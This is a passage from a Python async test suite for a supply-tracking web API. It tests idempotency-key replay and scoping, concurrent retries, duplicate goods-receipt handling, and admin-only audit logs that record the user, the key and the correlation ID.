    assert first.status_code == 201, first.text
    retry = await system.client.post("/v1/needs", headers=headers, json=NEED)
    assert retry.status_code == 201
    assert retry.json() == first.json()
    assert retry.headers["Idempotent-Replayed"] == "true"
    assert retry.headers["location"] == first.headers["location"]

    other_body = await system.client.post(
        "/v1/needs", headers=headers, json={**NEED, "severity": 2}
    )
    assert other_body.status_code == 422
    assert other_body.json()["errors"][0]["field"] == "header.Idempotency-Key"

    # The same key in another organisation is another request altogether.
    other_org = await _caller(system, await _organisation(system), Role.PARTNER)
    theirs = await system.client.post(
        "/v1/needs", headers={**other_org, "Idempotency-Key": headers["Idempotency-Key"]}, json=NEED
    )
    assert theirs.status_code == 201
    assert theirs.json()["id"] != first.json()["id"]
    listed = (await system.client.get("/v1/needs", headers=partner)).json()
    assert listed["total"] == 1


async def test_concurrent_retries_create_one_object(system: System) -> None:
    organisation = await _organisation(system)
    partner = await _caller(system, organisation, Role.PARTNER)
    headers = {**partner, "Idempotency-Key": f"burst-{uuid.uuid4().hex}"}
    responses = await asyncio.gather(
        *(system.client.post("/v1/needs", headers=headers, json=NEED) for _ in range(8))
    )
    statuses = sorted(r.status_code for r in responses)
    assert set(statuses) <= {201, 409}, [r.text for r in responses]
    created = {r.json()["id"] for r in responses if r.status_code == 201}
    assert len(created) == 1
    for response in responses:
        if response.status_code == 409:
            assert response.json()["type"] == "/problems/idempotency-in-progress"
            assert int(response.headers["Retry-After"]) >= 1
    listed = (await system.client.get("/v1/needs", headers=partner)).json()
    assert listed["total"] == 1


async def test_a_refused_request_can_be_retried_with_the_same_key(system: System) -> None:
    organisation = await _organisation(system)
    staff = await _caller(system, organisation, Role.WAREHOUSE, ("BKO-MAIN",))
    headers = {**staff, "Idempotency-Key": f"grn-{uuid.uuid4().hex}"}
    receipt = {
        "grn_number": _unique("GRN-"),
        "source": "ECHO",
        "lines": [{"item_code": "BLANKET", "quantity": 10}],
    }
    first = await system.client.post(
        "/v1/warehouses/BKO-MAIN/receipts", headers=headers, json=receipt
    )
    assert first.status_code == 201, first.text
    again = await system.client.post(
        "/v1/warehouses/BKO-MAIN/receipts", headers=headers, json=receipt
    )
    assert again.json() == first.json()
    # Without the key, the service itself refuses the duplicate GRN: the answers differ.
    plain = await system.client.post(
        "/v1/warehouses/BKO-MAIN/receipts", headers=staff, json=receipt
    )
    assert plain.status_code == 409


# ---- audit -----------------------------------------------------------------------------------


async def test_changes_are_audited_with_who_and_which_key_and_admins_read_them(
    system: System,
) -> None:
    organisation = await _organisation(system)
    user_id, _ = await _user(system, organisation, Role.PARTNER)
    key_id, key = await _key(system, user_id)
    created = await system.client.post(
        "/v1/needs", headers={**key, "X-Correlation-Id": "audit-me-1"}, json=NEED
    )
    assert created.status_code == 201
    await system.client.post("/v1/needs", headers={"X-API-Key": "kf_nonsense"}, json=NEED)

    audit = await system.client.get(
        f"/v1/audit?organisation={organisation}&path_prefix=/v1/needs", headers=system.admin
    )
    assert audit.status_code == 200, audit.text
    [entry] = audit.json()["items"]
    assert (entry["method"], entry["path"], entry["status"]) == ("POST", "/v1/needs", 201)
    assert (entry["user_id"], entry["key_id"], entry["correlation_id"]) == (
        user_id,
        key_id,
        "audit-me-1",
    )
    refused = await system.client.get("/v1/audit?status=401&limit=5", headers=system.admin)
    assert refused.json()["items"][0]["user_id"] is None
    assert (await system.client.get("/v1/audit", headers=key)).status_code == 403
